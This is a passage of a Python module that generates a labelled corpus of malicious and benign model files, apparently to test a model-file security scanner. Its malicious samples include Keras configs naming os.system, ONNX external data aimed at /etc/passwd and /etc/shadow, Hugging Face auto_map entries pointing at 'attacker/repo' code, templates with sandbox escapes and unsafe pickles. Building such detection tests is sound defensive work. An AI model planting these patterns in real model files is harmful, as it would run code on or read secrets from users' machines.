            _bytes_writer(json.dumps({"chat_template": EVIL_TEMPLATES["lipsum_globals"]}).encode()),
        )
    )
    out.append(
        Sample(
            "hf_evil_named/tokenizer_config.json",
            True,
            "template",
            "named templates list with an escape",
            _bytes_writer(
                json.dumps(
                    {
                        "chat_template": [
                            {"name": "default", "template": MISTRAL_TEMPLATE},
                            {"name": "rag", "template": EVIL_TEMPLATES["attr_filter"]},
                        ]
                    }
                ).encode()
            ),
        )
    )
    out.append(
        Sample(
            "hf_evil_jinja/chat_template.jinja",
            True,
            "template",
            "chat_template.jinja with an escape",
            _bytes_writer(EVIL_TEMPLATES["subclasses"].encode()),
        )
    )
    out.append(
        Sample(
            "hf_jinja/chat_template.jinja",
            False,
            "template",
            "chat_template.jinja, Qwen",
            _bytes_writer(QWEN_TEMPLATE.encode()),
        )
    )
    return out  # fmt: skip


# -- Keras -------------------------------------------------------------------------------------------------


def keras_archive(layers: list[dict[str, Any]]) -> bytes:
    """A Keras v3 .keras file: config.json, metadata.json and (empty) weights."""
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": layers},
        "registered_name": None,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "metadata.json", json.dumps({"keras_version": "3.4.1", "date_saved": "2024-08-01@12:00:00"})
        )
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    return buf.getvalue()


def dense(name: str, units: int) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": name,
            "units": units,
            "activation": "relu",
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None},
        },
        "registered_name": None,
    }  # fmt: skip


LAMBDA_LAYER = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}},
    "registered_name": None,
}  # fmt: skip


def _keras_samples() -> list[Sample]:
    out = [
        Sample("keras_dense.keras", False, "keras", "Keras v3 Dense layers", _bytes_writer(keras_archive([dense("d1", 8), dense("d2", 1)]))),
        Sample("keras_lambda.keras", True, "keras", "Keras v3 Lambda layer", _bytes_writer(keras_archive([dense("d1", 8), LAMBDA_LAYER]))),
        Sample("keras_module_os.keras", True, "keras", "config names os.system (CVE-2025-1550 style)",
               _bytes_writer(keras_archive([dense("d1", 8), {"module": "os", "class_name": "system", "config": {"name": COMMAND}, "registered_name": None}]))),
        Sample("keras_get_file.keras", True, "keras", "config calls keras.utils.get_file",
               _bytes_writer(keras_archive([{"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": "http://127.0.0.1:9/x"}, "registered_name": None}]))),
        Sample("keras_custom.keras", True, "keras", "custom registered layer (code needed)",
               _bytes_writer(keras_archive([{"module": "my_package.layers", "class_name": "Custom", "config": {"name": "c"}, "registered_name": "MyPackage>Custom"}]))),
    ]  # fmt: skip
    try:
        import h5py
    except ImportError:
        return out

    def h5(config: dict[str, Any]) -> Callable[[Path], None]:
        def write(path: Path) -> None:
            with h5py.File(path, "w") as f:
                f.attrs["keras_version"] = "2.15.0"
                f.attrs["backend"] = "tensorflow"
                f.attrs["model_config"] = json.dumps(config)
                f.create_group("model_weights").create_dataset("w", data=np.zeros(4))

        return write

    legacy_lambda = {
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"},
    }
    legacy_dense = {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}}
    seq = lambda layers: {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}  # noqa: E731
    out.append(Sample("legacy_dense.h5", False, "keras", "legacy H5 Dense model", h5(seq([legacy_dense]))))
    out.append(
        Sample(
            "legacy_lambda.h5",
            True,
            "keras",
            "legacy H5 with a Lambda layer",
            h5(seq([legacy_dense, legacy_lambda])),
        )
    )
    return out  # fmt: skip


# -- ONNX -------------------------------------------------------------------------------------------------


def _onnx_samples() -> list[Sample]:
    try:
        from onnx import TensorProto, helper
    except ImportError:
        return []

    def model(domain: str = "", op: str = "Relu", location: str | None = None) -> Callable[[Path], None]:
        def write(path: Path) -> None:
            weight = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
            if location is not None:
                weight.ClearField("float_data")
                weight.data_location = TensorProto.EXTERNAL
                for key, value in (("location", location), ("offset", "0"), ("length", "16")):
                    entry = weight.external_data.add()
                    entry.key, entry.value = key, value
            node = helper.make_node(op, ["x"], ["y"], domain=domain)
            add = helper.make_node("Add", ["y", "w"], ["z"])
            graph = helper.make_graph(
                [node, add], "g",
                [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                [helper.make_tensor_value_info("z", TensorProto.FLOAT, [4])],
                initializer=[weight],
            )  # fmt: skip
            opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
            path.write_bytes(helper.make_model(graph, opset_imports=opsets).SerializeToString())
            if location == "weights.bin":
                (path.parent / "weights.bin").write_bytes(np.arange(4, dtype=np.float32).tobytes())

        return write

    return [
        Sample("onnx_plain/model.onnx", False, "onnx", "ONNX Relu + Add", model()),
        Sample("onnx_external_ok/model.onnx", False, "onnx", "ONNX with external data beside it", model(location="weights.bin")),
        Sample("onnx_escape/model.onnx", True, "onnx", "external data ../../etc/passwd", model(location="../../../../etc/passwd")),
        Sample("onnx_absolute/model.onnx", True, "onnx", "external data /etc/shadow", model(location="/etc/shadow")),
        Sample("onnx_custom_domain/model.onnx", True, "onnx", "custom operator domain", model(domain="com.evil.ops", op="Backdoor")),
        Sample("onnx_pyop/model.onnx", True, "onnx", "onnxruntime-extensions PyOp", model(domain="ai.onnx.contrib", op="PyOpRelu")),
    ]  # fmt: skip


# -- Hugging Face folders and other files -----------------------------------------------------------------

HF_CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2,
             "torch_dtype": "float32", "vocab_size": 32}  # fmt: skip


def _hf_samples() -> list[Sample]:
    auto_map = {
        **HF_CONFIG,
        "auto_map": {
            "AutoConfig": "configuration_evil.EvilConfig",
            "AutoModelForCausalLM": "modeling_evil.EvilModel",
        },
    }
    remote = {**HF_CONFIG, "auto_map": {"AutoModel": "attacker/repo--modeling.Model"}}
    pipelines = {
        **HF_CONFIG,
        "custom_pipelines": {"text-generation": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModel"]}},
    }
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
    return [
        Sample("hf_plain/config.json", False, "hf-config", "config.json", _bytes_writer(json.dumps(HF_CONFIG).encode())),
        Sample("hf_plain/generation_config.json", False, "hf-config", "generation_config.json", _bytes_writer(b'{"do_sample": true, "temperature": 0.7}')),
        Sample("hf_plain/README.md", False, "other", "model card", _bytes_writer(b"# corpus model\n\nA test model.\n")),
        Sample("hf_plain/model.safetensors.index.json", False, "hf-config", "shard index",
               _bytes_writer(json.dumps({"metadata": {"total_size": 16}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}).encode())),
        Sample("hf_auto_map/config.json", True, "hf-config", "auto_map to custom code", _bytes_writer(json.dumps(auto_map).encode())),
        Sample("hf_remote/config.json", True, "hf-config", "auto_map to another repository's code", _bytes_writer(json.dumps(remote).encode())),
        Sample("hf_pipeline/config.json", True, "hf-config", "custom_pipelines impl", _bytes_writer(json.dumps(pipelines).encode())),
        Sample("hf_index_escape/model.safetensors.index.json", True, "hf-config", "weight_map pointing outside the folder",
               _bytes_writer(json.dumps({"weight_map": {"w": "../../../etc/passwd"}}).encode())),
        Sample("hf_auto_map/modeling_evil.py", True, "other", "custom modeling code", _bytes_writer(b"import os\nos.system('echo x')\n")),
        Sample("payload.so", True, "other", "an ELF shared library", _bytes_writer(elf)),
        Sample("pickles.zip", True, "other", "a zip holding an unsafe pickle", _bytes_writer(_zip({"model/weights.pkl": OS_SYSTEM_P0}))),
        Sample("pickles.tar", True, "other", "a tar holding an unsafe pickle", _bytes_writer(_tar({"model.pkl": OS_SYSTEM_P0}))),
    ]  # fmt: skip


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# -- the corpus -----------------------------------------------------------------------------------------------


def samples() -> list[Sample]:
    return [
        *_unsafe_pickles(),
        Sample("dict_of_arrays_p2.pkl", False, "pickle", "dict of arrays, protocol 2", _bytes_writer(pickle.dumps({"w": np.ones((4, 4)), "names": ["a", "b"]}, 2))),
        Sample("dict_of_arrays_p5.pkl", False, "pickle", "dict of arrays, protocol 5", _bytes_writer(pickle.dumps({"w": np.ones((4, 4)), "step": 3}, 5))),
        Sample("plain_data_p0.pkl", False, "pickle", "containers, protocol 0", _bytes_writer(pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True), "c": {1, 2}}, 0))),
        *_numpy_samples(),
        *_sklearn_samples(),
        *_safetensors_samples(),
        *_torch_samples(),
        *_template_samples(),
        *_keras_samples(),
        *_onnx_samples(),
        *_hf_samples(),
    ]  # fmt: skip


def write_corpus(root: Path) -> list[tuple[Path, Sample]]:
    """Write every sample under `root`; (path, sample) pairs."""
    out = []
    for sample in samples():
        path = root / sample.name
        path.parent.mkdir(parents=True, exist_ok=True)
        sample.write(path)
        out.append((path, sample))
    return out
